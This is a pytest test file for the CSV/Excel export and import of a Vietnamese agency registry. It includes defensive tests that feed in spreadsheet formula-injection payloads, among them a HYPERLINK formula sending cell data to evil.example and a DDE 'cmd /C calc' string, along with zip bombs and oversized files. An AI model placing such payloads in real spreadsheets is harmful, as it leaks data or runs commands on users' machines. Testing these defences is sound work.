"""Excel / CSV export and import of the registry, and the export_registry command."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from agencies import registry_io
from agencies.models import Agency, AgencyVersion, Category

pytestmark = pytest.mark.django_db


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_web_export_csv_has_vietnamese_headers_and_rows(dost_client, agency, other_agency):
    response = dost_client.get(reverse("agencies:export_csv"))
    assert response["Content-Disposition"].startswith("attachment;")
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff")
    rows = _csv_rows(content)
    assert rows[0][:7] == [
        "Mã cơ quan",
        "Tên cơ quan",
        "Loại cơ quan",
        "Mã cơ quan cấp trên",
        "Cơ quan cấp trên",
        "Địa bàn",
        "Tỉnh",
    ]
    assert {r[0] for r in rows[1:]} == {"SKHCN", "STP"}
    assert rows[1][2] == "Cơ quan chuyên môn cấp tỉnh"
    assert rows[1][6] == "Cao Bằng"


def test_web_export_xlsx_follows_the_filters(dost_client, agency, other_agency):
    response = dost_client.get(reverse("agencies:export_xlsx"), {"q": "pháp"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "Mã cơ quan"
    assert [row[1] for row in values[1:]] == ["Sở Tư pháp"]


def test_export_registry_command_matches_the_web_export(demo, client, tmp_path):
    from agencies.models import User

    dost_client = client
    dost_client.force_login(User.objects.get(username="dost"), backend="django.contrib.auth.backends.ModelBackend")
    out = tmp_path / "registry.csv"
    call_command("export_registry", "--as-of", "2019-12-31", "--format", "csv", "--output", str(out))
    command_rows = _csv_rows(out.read_text(encoding="utf-8"))
    assert len(command_rows) == 1 + 77
    web = dost_client.get(reverse("agencies:export_csv"), {"as_of": "31/12/2019"}).content.decode("utf-8")
    assert _csv_rows(web) == command_rows
    categories = [r[2] for r in command_rows[1:]]
    assert categories.count("UBND cấp huyện") == 13

    xlsx = tmp_path / "registry.xlsx"
    call_command("export_registry", "--as-of", "2020-01-01", "--format", "xlsx", "--output", str(xlsx))
    rows = list(load_workbook(xlsx).active.iter_rows(values_only=True))
    assert len(rows) == 1 + 68
    assert sum(1 for r in rows[1:] if r[2] == "UBND cấp huyện") == 10
    assert any(r[1] == "UBND huyện Quảng Hòa" for r in rows)


def test_export_registry_command_rejects_bad_input(demo):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="YYYY-MM-DD"):
        call_command("export_registry", "--as-of", "31/12/2019")
    with pytest.raises(CommandError, match="--output"):
        call_command("export_registry", "--as-of", "2019-12-31", "--format", "xlsx")
    with pytest.raises(CommandError, match="No province"):
        call_command("export_registry", "--as-of", "2019-12-31", "--province", "99")


def _xlsx(rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _upload(client, name, content):
    return client.post(reverse("agencies:import"), {"file": SimpleUploadedFile(name, content)})


def test_import_creates_and_corrects_agencies(dost_client, agency):
    content = _xlsx(
        [
            [
                "Mã cơ quan",
                "Tên cơ quan",
                "Loại cơ quan",
                "Mã cơ quan cấp trên",
                "Địa bàn",
                "Ngày thành lập",
                "Thư ký ISO",
            ],
            [
                "CCTDC",
                "Chi cục Tiêu chuẩn Đo lường Chất lượng",
                "Cơ quan chuyên môn thuộc sở, ngành",
                "SKHCN",
                "Cao Bằng",
                "01/07/2008",
                "Bế Thị Hằng",
            ],
            ["SKHCN", "Sở Khoa học và Công nghệ", "Cơ quan chuyên môn cấp tỉnh", "", "Cao Bằng", "", "Nông Văn Tiến"],
            [
                "H05-TNMT",
                "Phòng Tài nguyên và Môi trường huyện Hà Quảng",
                "district_office",
                "H05",
                "Huyện Hà Quảng",
                "",
                "",
            ],
            ["H05", "UBND huyện Hà Quảng", "District People's Committee", "", "Huyện Hà Quảng", "", ""],
        ]
    )
    response = _upload(dost_client, "so-dang-ky.xlsx", content)
    assert response.status_code == 302
    unit = Agency.objects.get(code="CCTDC")
    assert unit.parent == agency and unit.category == Category.PROVINCIAL_UNIT
    assert str(unit.established_on) == "2008-07-01"
    assert Agency.objects.get(code="H05-TNMT").parent.code == "H05"
    agency.refresh_from_db()
    assert agency.secretary_name == "Nông Văn Tiến"
    assert AgencyVersion.objects.count() == 4


def test_import_with_bad_rows_lists_each_and_saves_nothing(dost_client, agency):
    before = (Agency.objects.count(), AgencyVersion.objects.count(), Agency.history.count())
    content = "\n".join(
        [
            "Mã cơ quan,Tên cơ quan,Loại cơ quan,Mã cơ quan cấp trên,Ngày thành lập,Email",
            "OK1,Cơ quan hợp lệ,Cơ quan chuyên môn cấp tỉnh,,,",
            ",Thiếu mã,Cơ quan chuyên môn cấp tỉnh,,,",
            "BAD2,Sai loại,Loại không có,,,",
            "BAD3,Cấp trên không có,Cơ quan chuyên môn cấp tỉnh,KHONGCO,,",
            "BAD4,Sai ngày,Cơ quan chuyên môn cấp tỉnh,,31/02/2020,",
            "BAD5,Sai email,Cơ quan chuyên môn cấp tỉnh,,,khong-phai-email",
            "OK1,Trùng mã,Cơ quan chuyên môn cấp tỉnh,,,",
        ]
    ).encode("utf-8")
    response = _upload(dost_client, "so-dang-ky.csv", content)
    assert response.status_code == 400
    errors = [(e.row, e.column) for e in response.context["result"].errors]
    assert errors == [
        (3, "Mã cơ quan"),
        (4, "Loại cơ quan"),
        (6, "Ngày thành lập"),
        (7, "Email"),
        (8, "Mã cơ quan"),
        (5, "Mã cơ quan cấp trên"),
    ]
    page = response.content.decode()
    assert "Không có cơ quan nào mang mã KHONGCO." in page
    assert "Không lưu gì cả" in page
    assert (Agency.objects.count(), AgencyVersion.objects.count(), Agency.history.count()) == before


def test_import_rejects_a_parent_loop_and_a_foreign_province(dost_client):
    content = _xlsx(
        [
            ["Mã cơ quan", "Tên cơ quan", "Loại cơ quan", "Mã cơ quan cấp trên", "Tỉnh"],
            ["A", "Cơ quan A", "provincial_agency", "B", "Cao Bằng"],
            ["B", "Cơ quan B", "provincial_agency", "A", "Cao Bằng"],
            ["C", "Cơ quan C", "provincial_agency", "", "Bắc Kạn"],
            ["D", "Cơ quan D", "provincial_agency", "D", "Cao Bằng"],
        ]
    )
    response = _upload(dost_client, "x.xlsx", content)
    assert response.status_code == 400
    # The loop is found even though another row is wrong, reported once, on its first row.
    assert [(e.row, e.column, e.message) for e in response.context["result"].errors] == [
        (4, "Tỉnh", "Dòng này thuộc Bắc Kạn; bạn chỉ nhập được cơ quan của Cao Bằng."),
        (5, "Mã cơ quan cấp trên", "Một cơ quan không thể trực thuộc chính nó."),
        (2, "Mã cơ quan cấp trên", "Mã cơ quan cấp trên tạo thành vòng lặp: A → B → A."),
    ]
    assert not Agency.objects.exists()


def test_import_refuses_unreadable_files(dost_client):
    response = _upload(dost_client, "x.xlsx", b"not a workbook")
    assert response.status_code == 400
    assert response.context["result"].errors[0].row == 1
    response = _upload(dost_client, "x.pdf", b"%PDF")
    assert response.status_code == 400
    assert "file" in response.context["form"].errors
    response = _upload(dost_client, "x.csv", "Tên,Khác\nA,B".encode())
    assert "Mã cơ quan" in response.context["result"].errors[0].message


def test_export_then_import_round_trip_changes_nothing(dost_client, agency, other_agency):
    exported = dost_client.get(reverse("agencies:export_xlsx")).content
    before = Agency.history.count()
    response = _upload(dost_client, "round-trip.xlsx", exported)
    assert response.status_code == 302
    assert Agency.history.count() == before
    assert Agency.objects.count() == 2


def test_headers_are_fixed_whatever_the_language(dost_client, agency):
    dost_client.post(reverse("set_language"), {"language": "en", "next": "/"})
    rows = _csv_rows(dost_client.get(reverse("agencies:export_csv")).content.decode())
    assert rows[0] == registry_io.HEADERS


def test_import_reports_a_row_split_by_an_unquoted_comma(dost_client):
    content = (
        "Mã cơ quan,Tên cơ quan,Loại cơ quan\n"
        "CCTDC,Chi cục Tiêu chuẩn Đo lường Chất lượng,Cơ quan chuyên môn thuộc sở, ngành\n"
    ).encode()
    response = _upload(dost_client, "x.csv", content)
    assert response.status_code == 400
    messages = [(e.row, e.message) for e in response.context["result"].errors]
    assert (2, "Dòng này có nhiều ô hơn dòng tiêu đề; giá trị có dấu phẩy phải đặt trong dấu ngoặc kép.") in messages
    assert not Agency.objects.exists()


def test_import_reads_a_csv_the_sniffer_cannot_guess(dost_client):
    response = _upload(
        dost_client, "x.csv", "Mã cơ quan,Tên cơ quan,Loại cơ quan\nA,Cơ quan A,provincial_agency\n".encode()
    )
    assert response.status_code == 302
    assert Agency.objects.get(code="A").name == "Cơ quan A"


# Issue 11: formulas, bounds, control characters, loops -------------------------------------------

FORMULAS = {
    "secretary_name": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "phone": "+84 206 3852 166",
    "address": "@SUM(1+1)",
    "secretary_phone": "-2+3+cmd|' /C calc'!A0",
    "locality": "'=đã có dấu nháy",  # a quote already there is kept through the round trip
}


def _vi(msgid: str, **params) -> str:
    """A message as the Vietnamese interface shows it (the catalogue may not have it yet)."""
    from django.utils import translation
    from django.utils.translation import gettext

    with translation.override("vi"):
        return gettext(msgid) % params


def _fields(agency_code: str) -> dict:
    agency = Agency.objects.get(code=agency_code)
    return {name: getattr(agency, name) for name in ["name", *FORMULAS]}


def test_exports_neutralise_formulas_and_the_import_restores_them(dost_client, province):
    from agencies.tests.factories import make_agency

    make_agency(province, code="F1", name="=1+2 Sở Thử", **FORMULAS)
    make_agency(province, code="F2", name="Sở Bình thường", secretary_phone="-", phone="0206")
    before = {code: _fields(code) for code in ("F1", "F2")}

    book = load_workbook(io.BytesIO(dost_client.get(reverse("agencies:export_xlsx")).content))
    sheet = book.active
    headers = [cell.value for cell in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    f1 = {headers[i]: cell for i, cell in enumerate(rows["F1"])}
    expected = {
        **{registry_io.CONTACT_HEADERS.get(k, "Địa bàn"): v for k, v in FORMULAS.items()},
        "Tên cơ quan": "=1+2 Sở Thử",
    }
    for header, value in expected.items():
        assert f1[header].value == "'" + value, header
        assert f1[header].data_type == "s", header
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    f2 = {headers[i]: cell.value for i, cell in enumerate(rows["F2"])}
    assert (f2["Điện thoại thư ký ISO"], f2["Điện thoại"]) == ("-", "0206")  # a lone dash stays as it is

    csv_text = dost_client.get(reverse("agencies:export_csv")).content.decode("utf-8")
    csv_rows = _csv_rows(csv_text)
    f1_csv = dict(zip(csv_rows[0], next(r for r in csv_rows if r[0] == "F1"), strict=True))
    for header, value in expected.items():
        assert f1_csv[header] == "'" + value, header
    assert not [c for r in csv_rows for c in r if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-")]

    history = Agency.history.count()
    for name, content in (("lai.xlsx", _xlsx_bytes(book)), ("lai.csv", csv_text.encode("utf-8"))):
        response = _upload(dost_client, name, content)
        assert response.status_code == 302, response.context and response.context["result"].errors
        assert {code: _fields(code) for code in ("F1", "F2")} == before
        assert Agency.history.count() == history  # the round trip changed nothing


def _xlsx_bytes(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


SHEET_XML = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s<sheetData>%s</sheetData>'
    b"</worksheet>"
)


def _row(*cells: str) -> bytes:
    return b"<row>" + b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % c.encode() for c in cells) + b"</row>"


def _xlsx_with_sheet(sheet_data: bytes, before: bytes = b"") -> bytes:
    """A workbook whose first sheet holds `sheet_data` as written (what openpyxl itself would not write)."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(_xlsx([["x"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            is_sheet = item.filename == "xl/worksheets/sheet1.xml"
            target.writestr(item.filename, SHEET_XML % (before, sheet_data) if is_sheet else source.read(item.filename))
    return out.getvalue()


def _agency_rows(n: int) -> bytes:
    return _row("Mã cơ quan", "Tên cơ quan", "Loại cơ quan") + b"".join(
        _row(f"T{i}", f"Cơ quan {i}", "provincial_agency") for i in range(n)
    )


def test_the_row_limit_stops_the_reading_at_the_first_row_beyond_it(dost_client, monkeypatch):
    monkeypatch.setattr(registry_io, "MAX_IMPORT_ROWS", 50)
    # What follows row 51 is never read: here it is broken, and only a reader that went on would see it.
    xlsx = _xlsx_with_sheet(_agency_rows(3000) + b"<row><c><v>&broken;</c>")
    csv_bytes = (
        "Mã cơ quan,Tên cơ quan,Loại cơ quan\n" + "".join(f"T{i},Cơ quan {i},provincial_agency\n" for i in range(3000))
    ).encode() + b"\xff\xfe"
    for name, content in (("x.xlsx", xlsx), ("x.csv", csv_bytes)):
        response = _upload(dost_client, name, content)
        assert response.status_code == 400, name
        assert [(e.row, e.message) for e in response.context["result"].errors] == [(1, "Tệp có nhiều hơn 50 dòng.")]
    assert not Agency.objects.exists()
    response = _upload(dost_client, "x.xlsx", _xlsx_with_sheet(_agency_rows(50)))
    assert response.status_code == 302 and Agency.objects.count() == 50  # the limit itself is allowed


def test_an_xlsx_of_a_million_rows_is_refused_at_the_limit(dost_client, monkeypatch):
    import time

    monkeypatch.setattr(registry_io, "MAX_IMPORT_ROWS", 50)
    # 25 MB of XML in a small file, broken at its very end: only a reader that went to the end sees it.
    content = _xlsx_with_sheet(_agency_rows(1) + b"<row><c><v>1</v></c></row>" * 1_000_000 + b"<row><v>&end;")
    assert len(content) < 500_000
    started = time.perf_counter()
    response = _upload(dost_client, "bom.xlsx", content)
    assert response.status_code == 400
    assert response.context["result"].errors[0].message == "Tệp có nhiều hơn 50 dòng."
    assert time.perf_counter() - started < 5  # read to row 51, not to the millionth


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(dost_client, settings, monkeypatch):
    settings.IMPORT_MAX_MB = 1
    monkeypatch.setattr(csv, "reader", lambda *a, **k: pytest.fail("an oversized file was parsed"))
    valid = "Mã cơ quan,Tên cơ quan,Loại cơ quan\nA,Cơ quan A,provincial_agency\n".encode()
    response = _upload(dost_client, "x.csv", valid + b"\n" * (1024 * 1024 - len(valid) + 1))
    assert response.status_code == 400 and response.context["result"] is None  # refused by the form: never read
    assert response.context["form"].errors["file"] == ["Tệp lớn hơn 1 MB."]
    assert not Agency.objects.exists()


def test_a_zip_bomb_is_refused_by_the_size_it_unpacks_to(dost_client, settings):
    settings.IMPORT_MAX_MB = 1
    content = _xlsx_with_sheet(_agency_rows(1) + b"<row><c><v>1</v></c></row>" * 450_000)  # 11 MB of XML
    assert len(content) < 100_000
    response = _upload(dost_client, "bom.xlsx", content)
    assert response.status_code == 400
    assert response.context["result"].errors[0].message == _vi("The workbook unpacks to more than %(n)s MB.", n=10)


def test_a_row_of_thousands_of_cells_is_refused(dost_client):
    too_wide = _vi("A row of the file holds more than %(n)s cells; keep only the table to import.", n=1000)
    xlsx = _xlsx_with_sheet(_agency_rows(1) + b"<row>" + b"<c/>" * 5000 + b"</row>")
    csv_bytes = "Mã cơ quan,Tên cơ quan,Loại cơ quan\nA,Cơ quan A,provincial_agency".encode() + b"," * 1500
    for name, content in (("x.xlsx", xlsx), ("x.csv", csv_bytes)):
        response = _upload(dost_client, name, content)
        assert response.status_code == 400, name
        assert [e.message for e in response.context["result"].errors] == [too_wide], name
    assert not Agency.objects.exists()


def test_a_control_character_in_a_cell_is_a_row_error(dost_client):
    content = (
        "Mã cơ quan,Tên cơ quan,Loại cơ quan,Địa chỉ\n"
        "A,Cơ quan A,provincial_agency,\n"
        "B,Cơ\x00quan B,provincial_agency,Số 1\x07\n"
    )
    response = _upload(dost_client, "x.csv", content.encode())
    assert response.status_code == 400
    errors = [(e.row, e.column, e.message) for e in response.context["result"].errors]
    message = "The cell holds a control character (%(code)s) that cannot be saved; remove it."
    assert errors == [
        (3, "Tên cơ quan", _vi(message, code="U+0000")),
        (3, "Địa chỉ", _vi(message, code="U+0007")),
    ]
    assert not Agency.objects.exists()


def test_import_rejects_a_loop_through_registered_agencies(dost_client, province):
    """Z under Q and A under Y in the file; Q under A and Y under Z in the registry: Z → Q → A → Y → Z."""
    from agencies.tests.factories import make_agency

    a, z = make_agency(province, code="A"), make_agency(province, code="Z")
    make_agency(province, code="Y", parent=z)
    make_agency(province, code="Q", parent=a)
    content = _xlsx(
        [
            ["Mã cơ quan", "Tên cơ quan", "Loại cơ quan", "Mã cơ quan cấp trên"],
            ["W", "Cơ quan W", "provincial_agency", "Y"],
            ["Z", "Cơ quan Z", "provincial_agency", "Q"],
            ["A", "Cơ quan A", "provincial_agency", "Y"],
        ]
    )
    before = Agency.history.count()
    response = _upload(dost_client, "x.xlsx", content)
    assert response.status_code == 400
    assert [(e.row, e.column, e.message) for e in response.context["result"].errors] == [
        (3, "Mã cơ quan cấp trên", "Mã cơ quan cấp trên tạo thành vòng lặp: Z → Q → A → Y → Z.")
    ]
    assert Agency.history.count() == before
    assert Agency.objects.get(code="A").parent is None and not Agency.objects.filter(code="W").exists()


def test_a_workbook_that_understates_its_size_is_read_to_its_end(dost_client):
    content = _xlsx_with_sheet(_agency_rows(3), before=b'<dimension ref="A1:C2"/>')  # says two rows, holds four
    response = _upload(dost_client, "x.xlsx", content)
    assert response.status_code == 302
    assert sorted(Agency.objects.values_list("code", flat=True)) == ["T0", "T1", "T2"]


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+84", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''+1", "-", "'-", "'abc", "Sở Tư pháp", "", "a=b"],
)
def test_safe_cell_and_unescape_cell_undo_each_other(value):
    from iso_tracker.spreadsheets import FORMULA_STARTS, safe_cell, unescape_cell

    written = safe_cell(value)
    assert unescape_cell(written) == value
    assert value == "-" or not written.startswith(FORMULA_STARTS)


def test_safe_cell_leaves_numbers_and_dates_alone():
    import datetime

    from iso_tracker.spreadsheets import safe_cell

    for value in (-5, -2.5, 0, datetime.date(2019, 12, 31), None):
        assert safe_cell(value) == value and type(safe_cell(value)) is type(value)
